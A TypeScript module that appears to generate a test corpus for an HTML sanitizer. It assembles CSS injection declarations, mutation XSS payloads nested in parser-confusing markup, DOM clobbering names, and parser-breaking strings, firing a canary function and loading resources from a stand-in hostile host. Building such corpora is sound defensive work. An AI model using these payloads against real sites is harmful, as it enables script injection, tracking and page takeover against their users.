import { CANARY, combine, HOSTILE_HOST } from './hostile.ts'

const CALL = `${CANARY}()`
const IMG = `<img src=x onerror=${CALL}>`

/** Style that runs code, loads, covers or moves content. */
export function cssStrings(): string[] {
  const declarations = [
    `background:url(javascript:${CALL})`,
    `background:url(//${HOSTILE_HOST}/x)`,
    `background-image:u\\72l(//${HOSTILE_HOST}/x)`,
    `background:image-set("//${HOSTILE_HOST}/x" 1x)`,
    `list-style:url("//${HOSTILE_HOST}/x")`,
    `list-style-image:url(//${HOSTILE_HOST}/x)`,
    `border-image:url(//${HOSTILE_HOST}/x) 1`,
    `cursor:url(//${HOSTILE_HOST}/x),auto`,
    `content:url(//${HOSTILE_HOST}/x)`,
    `filter:url(//${HOSTILE_HOST}/x#f)`,
    `mask:url(//${HOSTILE_HOST}/x)`,
    `clip-path:url(//${HOSTILE_HOST}/x#c)`,
    `shape-outside:url(//${HOSTILE_HOST}/x)`,
    `--x:url(//${HOSTILE_HOST}/x);background:var(--x)`,
    `width:expression(${CALL})`,
    `width:exp/**/ression(${CALL})`,
    `behavior:url(//${HOSTILE_HOST}/x.htc)`,
    `-moz-binding:url(//${HOSTILE_HOST}/x.xml#x)`,
    'position:fixed;top:0;left:0;right:0;bottom:0',
    'position:absolute;inset:0;z-index:2147483647',
    'position:sticky;top:0;z-index:9',
    'p\\6fsition:fixed',
    'transform:translate(-50vw,-50vh) scale(99)',
    'margin:-999px;width:9999px',
    'opacity:0;pointer-events:none',
    `animation:x 1s;color:red}*{background:url(//${HOSTILE_HOST}/x)}`,
    `color:red;/*`,
    `color:red"onclick="${CALL}`,
    'color:\\',
    `color:</style>${IMG}`,
  ]
  const places = [
    '<p style="@">x</p>',
    "<div style='@'>x</div>",
    '<img alt=x style="@">',
    '<td style="@">x',
    '<style>*{@}</style>',
  ]
  const imports = [`<style>@import "//${HOSTILE_HOST}/x.css"</style>`, `<style>@import url(data:text/css,*{})</style>`]
  return [...combine(places, declarations).map(([place = '', css = '']) => place.replace('@', () => css)), ...imports]
}

/** Mutation XSS: markup that changes its meaning when it is serialized and parsed again. */
export function mutationStrings(): string[] {
  const bombs = [IMG, `<svg onload=${CALL}>`, `<script>${CALL}</script>`, `<iframe src=javascript:${CALL}></iframe>`]
  const shapes = [
    '<math><mtext><table><mglyph><style><!--</style>@',
    '<math><mtext><table><mglyph><style><![CDATA[</style>@]]>',
    '<math><annotation-xml encoding="text/html"><style>@</style></annotation-xml></math>',
    '<svg></p><style><a id="</style>@">',
    '<svg><foreignObject><style><!--</style>@-->',
    '<svg><title><style>@</style></title></svg>',
    '<form><math><mtext></form><form><mglyph><style></math>@',
    '<noscript><p title="</noscript>@">',
    '<noembed><p title="</noembed>@">',
    '<xmp><p title="</xmp>@">',
    '<textarea><p title="</textarea>@">',
    '<title><p title="</title>@">',
    '<iframe><p title="</iframe>@">',
    '<select><template><style><!--</style><a rel="--></style></template></select>@">',
    '<table><caption><svg><title><table><caption></caption></table></title><style>@</style></svg></caption></table>',
    '<p id="a"><b><a href=x><table><a href=y>@</a></table></a></b></p>',
    '<!--><p>@-->',
    '<!--!>@-->',
    '<?xml version="1.0"?>@',
    '<!DOCTYPE x [<!ENTITY y "@">]>&y;',
    '<a title="&lt;/a&gt;@">x</a>',
    "<a title='--&gt;@'>x</a>",
    '<img alt="`@`">',
    '<option><style></option></select><b>@</style></option>',
    `${'<div>'.repeat(300)}@${'</div>'.repeat(300)}`,
    `${'<b><i>'.repeat(40)}@`,
  ]
  return combine(shapes, bombs).map(([shape = '', bomb = '']) => shape.replace('@', () => bomb))
}

/** DOM clobbering names, and texts that only hurt a careless parser. */
export function textStrings(): string[] {
  const names = [
    'body',
    'head',
    'cookie',
    'location',
    'getElementById',
    '__proto__',
    'constructor',
    'attributes',
    'nodeName',
  ]
  const clobbers = [
    '<img name=@>',
    '<a id=@ href=#>x</a><a id=@ name=y href=#>x</a>',
    '<form id=@><input name=attributes></form>',
  ]
  const texts = [
    '$&',
    '$`',
    "$'",
    '$1$2',
    '{{constructor.constructor("@")()}}',
    '${@}',
    '#{@}',
    '<%= @ %>',
    '[[@]]',
    '`${@}`',

    '%00',
    '\u0000',
    '\u202e@\u202c',
    '\u2066@',
    '\ufeff',
    '\u2028@\u2029',
    '\ud800',
    '\udfff\ud800',
    'a\u0300'.repeat(200),

    "';@;'",
    '";@;"',
    '\\";@;//',
    '</script><!--',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'NaN',
    '-0',

    '#'.repeat(1000),
    '#a'.repeat(500),
    `#${IMG}#`,
    `#</mark>${IMG}#`,
    '[x](javascript:@)',
    '![x](x" onerror="@)',
    '\r\nX: y',
  ]
  return [
    ...combine(clobbers, names).map(([shape = '', name = '']) => shape.replaceAll('@', name)),
    ...texts.map((text) => text.replaceAll('@', CALL)),
  ]
}
